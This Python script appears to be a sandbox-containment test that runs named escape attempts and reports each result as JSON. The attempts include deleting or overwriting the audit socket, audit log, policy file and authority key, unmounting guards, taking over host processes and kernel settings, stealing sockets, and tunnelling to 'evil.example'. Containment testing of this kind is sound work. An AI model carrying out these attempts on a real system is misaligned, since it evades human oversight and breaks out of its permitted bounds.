"""Tries the ways out of a sandbox. Takes facts of the outside as JSON; prints a JSON object: each way, and what came of it."""

import ctypes, errno, fcntl, json, os, socket, struct, subprocess, sys

facts = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
ways = {}


def way(name):
    def register(attempt):
        ways[name] = attempt
        return attempt
    return register


def call(number, *args):
    result = libc.syscall(number, *args)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def talk(family, kind, address):
    with socket.socket(family, kind) as out:
        out.settimeout(2)
        out.connect(address)
        out.send(b"out")
        out.recv(1)  # what is not received is no way out


def write(path, mode="a"):
    with open(path, mode) as file:
        file.write("leaked\n")


@way("TCP to a port of loopback")
def _(): talk(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", facts["tcp"]))

@way("TCP over IPv6 to a port of loopback")
def _(): talk(socket.AF_INET6, socket.SOCK_STREAM, ("::1", facts["tcp6"]))

@way("UDP")
def _(): talk(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", facts["udp"]))

@way("TCP to a public address")
def _(): talk(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 443))

@way("the metadata service of a cloud")
def _(): talk(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80))

@way("a DNS look-up")
def _(): socket.getaddrinfo("example.com", 443)

@way("a raw socket")
def _(): socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)

@way("a packet socket")
def _(): socket.socket(socket.AF_PACKET, socket.SOCK_RAW)

@way("a socket of the hypervisor")
def _(): socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK

@way("an abstract unix socket")
def _(): talk(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + facts["abstract"])

@way("a unix socket")
def _(): talk(socket.AF_UNIX, socket.SOCK_STREAM, facts["unix"])

@way("a pair of unix sockets that is connected once more")
def _():
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(b"out", facts["unixDatagrams"])

@way("a unix socket through io_uring")
def _(): call(425, 4, ctypes.create_string_buffer(120))

@way("the audit socket")
def _(): talk(socket.AF_UNIX, socket.SOCK_STREAM, facts["socket"])

@way("a second mediator in place of the audit socket")
def _():
    os.unlink(facts["socket"])

@way("the key of the authority")
def _(): open(facts["key"]).read()

@way("a key in place of the authority's")
def _(): write(facts["key"], "w")

@way("reading the audit log")
def _():
    if open(facts["audit"]).read() == "": raise OSError(errno.ENODATA, "empty")

@way("writing to the audit log")
def _(): write(facts["audit"])

@way("the journal")
def _(): write(facts["journal"])

@way("writing to the policy")
def _(): write(facts["policy"])

@way("another policy in place of it")
def _():
    mine = os.path.join(facts["scratch"], "policy.yaml")
    write(mine, "w")
    os.rename(mine, facts["policy"])

@way("removing the policy")
def _(): os.unlink(facts["policy"])

@way("another mode for the policy")
def _(): os.chmod(facts["policy"], 0o666)

@way("a hard link to the policy")
def _(): os.link(facts["policy"], os.path.join(facts["scratch"], "link"))

@way("a policy through /proc")
def _():
    fd = os.open(facts["policy"], os.O_RDONLY)
    write("/proc/self/fd/%d" % fd)

def renamed(folder):
    os.rename(folder, folder + ".old")
    os.rename(folder + ".old", folder)

@way("another name for the policy's folder")
def _(): renamed(os.path.dirname(facts["policy"]))

@way("another name for a folder above the policy")
def _(): renamed(os.path.dirname(os.path.dirname(facts["policy"])))

@way("another name for the authority's folder")
def _(): renamed(os.path.dirname(facts["key"]))

@way("a new link in place of a link to the policy")
def _():
    os.unlink(facts["policyLink"])
    os.symlink("/dev/null", facts["policyLink"])

@way("the policy through another mount")
def _():
    if not facts["alias"]: raise OSError(errno.ENOENT, "none here")
    write(facts["alias"])

def unmount(path):
    if libc.umount2(path.encode(), 2) != 0: raise OSError(ctypes.get_errno(), "umount")

@way("lifting the guard of the policy")
def _(): unmount(os.path.dirname(facts["policy"]))

@way("lifting the guard of the key")
def _(): unmount(os.path.dirname(facts["key"]))

@way("lifting a guard as root of an own namespace")
def _():
    code = "import os,ctypes,sys;l=ctypes.CDLL(None,use_errno=True);os.unshare(0x10020000);sys.exit(1 if l.umount2(sys.argv[1].encode(),2) and l.mount(b'',sys.argv[1].encode(),None,32,None) else 0)" if hasattr(os, "unshare") else \
           "import ctypes,sys;l=ctypes.CDLL(None,use_errno=True);l.unshare(0x10020000);sys.exit(1 if l.umount2(sys.argv[1].encode(),2) and l.mount(b'',sys.argv[1].encode(),None,32,None) else 0)"
    for folder in (os.path.dirname(facts["policy"]), os.path.dirname(facts["key"])):
        if subprocess.run([sys.executable, "-c", code, folder]).returncode == 0: return
    raise OSError(errno.EPERM, "refused")

@way("looking at a process outside")
def _():
    for pid in facts["pids"]: os.stat("/proc/%d" % pid)

@way("tracing a process outside")
def _():
    for pid in facts["pids"]:
        if libc.ptrace(16, pid, 0, 0) != 0: raise OSError(ctypes.get_errno(), "ptrace")

@way("a signal for a process outside")
def _():
    for pid in facts["pids"]: os.kill(pid, 0)

@way("a file of our processes that leads out")
def _():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            for fd in os.listdir("/proc/%s/fd" % pid):
                try:
                    if os.stat("/proc/%s/fd/%s/." % (pid, fd)): found.append(fd)
                except OSError: pass
        except OSError: pass
    if not found: raise OSError(errno.ENOENT, "none")

@way("a listening socket taken from our process by tracing")
def _():
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if pid == os.getpid(): continue
        try: handle = os.pidfd_open(pid)
        except OSError: continue
        for fd in range(3, 64):  # the first three are what the program was given
            try: taken = call(438, handle, fd, 0)
            except OSError: continue
            try:
                got = socket.socket(fileno=taken)
                got.settimeout(0.2)
                got.send(b'{"cmd":"NODE_HANDLE"}\n')
            except OSError: pass
    raise OSError(errno.ENOTCONN, "nothing that answers")

@way("typing into the terminal")
def _():
    fcntl.ioctl(os.open("/dev/ptmx", os.O_RDWR), 0x5412, b"x")

@way("a disk as a file")
def _():
    path = os.path.join(facts["scratch"], "disk")
    os.mknod(path, 0o600 | 0o060000, os.makedev(*facts["disk"]))
    os.open(path, os.O_RDONLY)

@way("a disk in /dev")
def _():
    disks = [name for name in os.listdir("/dev") if name.startswith(("sd", "vd", "nvme", "xvd", "dm-"))]
    if not disks: raise OSError(errno.ENOENT, "none")
    for name in disks: os.open("/dev/" + name, os.O_RDONLY)

@way("a program that the kernel starts outside")
def _(): os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)

@way("a restart of the machine")
def _(): os.open("/proc/sysrq-trigger", os.O_WRONLY)

@way("a setting of the kernel in /sys")
def _(): os.open("/sys/kernel/uevent_helper", os.O_WRONLY)

@way("a module of the kernel")
def _(): call(313 if os.uname().machine == "x86_64" else 273, -1, b"", 0)

@way("the network of the first process")
def _():
    fd = os.open("/proc/1/ns/net", os.O_RDONLY)
    if libc.setns(fd, 0x40000000) != 0: raise OSError(ctypes.get_errno(), "setns")
    talk(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", facts["tcp"]))

@way("a denied host through the mediator")
def _():
    with socket.create_connection(("127.0.0.1", facts["mediator"]), 2) as out:
        out.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
        if b" 200 " not in out.recv(4096).split(b"\r\n")[0]: raise OSError(errno.EACCES, "denied")

results = {}
for name, attempt in ways.items():
    if facts.get("only") and name not in facts["only"]: continue
    try:
        attempt()
        results[name] = "OUT"
    except Exception as error:
        results[name] = "%s: %s" % (type(error).__name__, error)
print(json.dumps(results))
